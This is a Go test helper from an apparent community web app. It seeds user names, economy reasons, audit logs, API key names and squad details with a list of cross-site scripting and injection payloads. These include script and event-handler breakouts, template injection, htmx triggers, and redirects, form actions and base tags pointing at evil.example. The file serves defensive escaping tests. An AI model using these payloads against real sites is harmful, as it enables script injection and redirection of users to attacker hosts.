package app_test

import (
	"encoding/json"
	"testing"
	"time"

	"github.com/disgoorg/snowflake/v2"
	"github.com/stretchr/testify/require"

	"github.com/smarter-dev/smarterdev/app/apikeys"
	"github.com/smarter-dev/smarterdev/app/apptest"
	"github.com/smarter-dev/smarterdev/app/economy"
	"github.com/smarter-dev/smarterdev/app/platform/access"
	"github.com/smarter-dev/smarterdev/app/sandbox/sandboxtest"
	"github.com/smarter-dev/smarterdev/app/squads"
	"github.com/smarter-dev/smarterdev/store"
)

// poisons are ways to have a page run what somebody wrote.
var poisons = []string{
	`<img src=x onerror=poisoned=1>`, `"><script>poisoned=1</script>`, `'><svg/onload=poisoned=1>`, `javascript:poisoned=1`,
	`<iframe srcdoc="<script>parent.poisoned=1</script>">`, `{{constructor.constructor('poisoned=1')()}}`, `</textarea><script>poisoned=1</script>`,
	`</title><script>poisoned=1</script>`, `" autofocus onfocus=poisoned=1 x="`, `<a href="javascript:poisoned=1">x</a>`,
	`<details open ontoggle=poisoned=1>`, `<style>@import "//evil.example"</style>`, `<base href="//evil.example/">`, `<body hx-on:load="poisoned=1">`,
	`<div hx-get="//evil.example" hx-trigger="load">`, `<form action="//evil.example"><button>x`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
	`${poisoned=1}`, "`-poisoned=1-`", `<!--<img src="--><img src=x onerror=poisoned=1//">`, `&lt;img src=x onerror=poisoned=1&gt;`, `\u003cscript\u003epoisoned=1`,
}

// poison puts them wherever people can write: names, reasons, squads, keys.
func poison(t *testing.T, p *apptest.Program) *sandboxtest.Person {
	t.Helper()
	guild := p.World.GuildID
	mallory := p.World.Newcomer(sandboxtest.Newcomer{Username: "mallory", Name: poisons[0]})
	mallory.Join()
	for _, reason := range poisons {
		_, err := p.Economy.Adjust(t.Context(), economy.Adjust{Guild: guild, User: mallory.ID, Name: reason, Amount: 1, Reason: reason, Actor: store.Actor{ID: mallory.ID, Name: reason, Source: store.SourceAPI}})
		require.NoError(t, err)
		after, err := json.Marshal(map[string]string{reason: reason})
		require.NoError(t, err)
		for _, log := range []snowflake.ID{guild, 0} {
			_, err = p.Store.Audit(t.Context(), store.AuditEntry{GuildID: log, Actor: store.Actor{Name: reason, Source: store.SourceAPI}, Action: "poison", Subject: reason, After: after, CreatedAt: p.Clock.Now()})
			require.NoError(t, err)
		}
		_, _, err = p.APIKeys.CreateKey(t.Context(), apikeys.CreateKey{Name: reason, Scopes: []string{"read"}, Actor: store.Actor{Name: "a test", Source: store.SourceCommand}})
		require.NoError(t, err)
	}
	_, err := p.Squads.Create(t.Context(), squads.Create{Guild: guild, Details: squads.Details{RoleID: new(p.World.Role("Gophers")), Name: &poisons[0], Description: &poisons[1]}, Actor: store.Actor{Name: "a test", Source: store.SourceCommand}, By: access.AsOwner()})
	require.NoError(t, err)
	p.Clock.Pass(time.Second) // what the stories do comes after it in the logs
	return mallory
}
